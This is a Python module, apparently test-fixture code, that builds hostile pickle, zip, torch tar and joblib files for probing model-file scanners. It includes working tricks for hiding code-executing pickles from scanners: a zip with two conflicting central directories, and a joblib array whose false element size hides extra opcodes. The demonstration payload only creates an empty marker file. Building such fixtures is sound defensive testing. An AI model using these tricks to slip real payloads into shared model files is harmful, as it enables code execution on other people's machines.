"""Byte-level builders for hostile fixtures: pickle opcodes, zip records, tar and joblib layouts.

Everything is written from the format descriptions (CPython ``Lib/pickletools.py`` opcode
table, PKWARE APPNOTE 6.3.10, POSIX ustar via ``tarfile``, joblib's ``NumpyArrayWrapper``
layout); nothing is unpickled. The marker payload used by the real-loader proofs opens a
file for writing (``builtins.open(path, 'w')``), which creates an empty marker and nothing else.
"""

from __future__ import annotations

import io
import struct
import tarfile
import zlib
from typing import Iterable, List, Tuple

PROTO2 = b"\x80\x02"
STOP = b"."
REDUCE = b"R"
BUILD = b"b"
MARK = b"("
TUPLE = b"t"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
TUPLE3 = b"\x87"
EMPTY_TUPLE = b")"
EMPTY_DICT = b"}"
NEWOBJ = b"\x81"
SETITEMS = b"u"
SETITEM = b"s"
NONE = b"N"
NEWFALSE = b"\x89"
POP = b"0"


def glob(module: str, name: str) -> bytes:
    """GLOBAL opcode: ``c<module>\\n<name>\\n``."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def stack_global(module: str, name: str) -> bytes:
    """Protocol 4 STACK_GLOBAL from two SHORT_BINUNICODE strings."""
    return ustr(module) + ustr(name) + b"\x93"


def ustr(text: str) -> bytes:
    raw = text.encode()
    return (b"\x8c" + bytes([len(raw)]) + raw) if len(raw) < 256 else (b"X" + struct.pack("<I", len(raw)) + raw)


def binint(n: int) -> bytes:
    return b"K" + bytes([n]) if 0 <= n < 256 else b"J" + struct.pack("<i", n)


def call(module: str, name: str, *args: bytes, proto: bytes = PROTO2) -> bytes:
    """A complete stream ``module.name(*args)`` (each arg already encoded)."""
    return proto + glob(module, name) + MARK + b"".join(args) + TUPLE + REDUCE + STOP


def marker(path: str) -> bytes:
    """Stream that creates an empty file at ``path`` when really unpickled: ``open(path, 'w')``."""
    return call("builtins", "open", ustr(path), ustr("w"))


# -- zip --------------------------------------------------------------------------------------
def local_header(name: str, data: bytes) -> bytes:
    raw = name.encode()
    return struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0x21, zlib.crc32(data), len(data), len(data),
                       len(raw), 0) + raw + data


def central_entry(name: str, data: bytes, offset: int) -> bytes:
    raw = name.encode()
    return struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 0, 0, 0x21, zlib.crc32(data), len(data),
                       len(data), len(raw), 0, 0, 0, 0, 0, offset) + raw


def end_record(count: int, cd_size: int, cd_offset: int) -> bytes:
    return struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, cd_size, cd_offset, 0)


def stored_zip(members: Iterable[Tuple[str, bytes]]) -> bytes:
    """A plain stored zip, members in order (what ``torch.save`` writes, less alignment padding)."""
    out = bytearray()
    directory = bytearray()
    count = 0
    for name, data in members:
        directory += central_entry(name, data, len(out))
        out += local_header(name, data)
        count += 1
    return bytes(out + directory + end_record(count, len(directory), len(out)))


def torch_members(data_pkl: bytes, prefix: str = "archive") -> List[Tuple[str, bytes]]:
    return [(f"{prefix}/data.pkl", data_pkl), (f"{prefix}/byteorder", b"little"), (f"{prefix}/version", b"3\n")]


def two_directories(seen_by_zipfile: List[Tuple[str, bytes]], seen_by_miniz: List[Tuple[str, bytes]]) -> bytes:
    """Two central directories: the end record's offset names the second list's, zipfile takes the first's.

    Layout: [miniz members][miniz directory][zipfile members][zipfile directory][end record].
    ``zipfile`` reads the directory that ends right before the end record and shifts its
    offsets by ``concat = end - cd_size - cd_offset``; miniz reads at ``cd_offset``.
    """
    out = bytearray()
    miniz_dir = bytearray()
    for name, data in seen_by_miniz:
        miniz_dir += central_entry(name, data, len(out))
        out += local_header(name, data)
    cd_offset = len(out)
    out += miniz_dir
    locals_at = []
    for name, data in seen_by_zipfile:
        locals_at.append(len(out))
        out += local_header(name, data)
    concat = len(out) - cd_offset  # where zipfile's directory starts, minus the recorded offset
    zip_dir = b"".join(central_entry(name, data, at - concat) for (name, data), at in zip(seen_by_zipfile, locals_at))
    out += zip_dir
    return bytes(out + end_record(len(seen_by_miniz), len(zip_dir), cd_offset))


# -- legacy torch tar -------------------------------------------------------------------------
def torch_tar(pickle_member: bytes, storages: bytes = b"\x80\x02K\x00.\x80\x02].", tensors: bytes = b"\x80\x02K\x00.",
              sys_info: bytes = b"\x80\x02}.") -> bytes:
    """A pre-0.4 ``torch.save`` tar: ``sys_info``, ``pickle``, ``tensors``, ``storages`` members."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in (("sys_info", sys_info), ("pickle", pickle_member), ("tensors", tensors),
                           ("storages", storages)):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


# -- joblib -----------------------------------------------------------------------------------
def joblib_array_with_lying_elsize(hidden_ops: bytes) -> bytes:
    """A joblib pickle of one float64 whose dtype state claims the item is ``8 + len(hidden_ops)`` bytes.

    NumPy ignores the state's elsize for fixed-size types, so ``joblib.load`` reads 8 bytes of
    array data and then runs ``hidden_ops`` (which must leave one value on the stack) before
    STOP; a scanner that trusts the claimed elsize skips them. Source: joblib
    ``NumpyArrayWrapper.read_array``; NumPy ``arraydescr_setstate`` (elsize only for flexible types).
    """
    elsize = 8 + len(hidden_ops)
    dtype = (glob("numpy", "dtype") + MARK + ustr("f8") + NEWFALSE + b"\x88" + TUPLE + REDUCE
             + MARK + binint(3) + ustr("<") + NONE + NONE + NONE + binint(elsize) + binint(-1) + binint(0)
             + TUPLE + BUILD)
    state = (EMPTY_DICT + MARK
             + ustr("subclass") + glob("numpy", "ndarray")
             + ustr("shape") + binint(1) + TUPLE1
             + ustr("order") + ustr("C")
             + ustr("dtype") + dtype
             + ustr("allow_mmap") + NEWFALSE
             + SETITEMS)
    head = PROTO2 + glob("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + state + BUILD
    return head + struct.pack("<d", 1.5) + hidden_ops + STOP


def marker_ops(path: str) -> bytes:
    """Opcodes (no PROTO, no STOP) that drop the top of the stack and push ``open(path, 'w')``."""
    return POP + glob("builtins", "open") + MARK + ustr(path) + ustr("w") + TUPLE + REDUCE
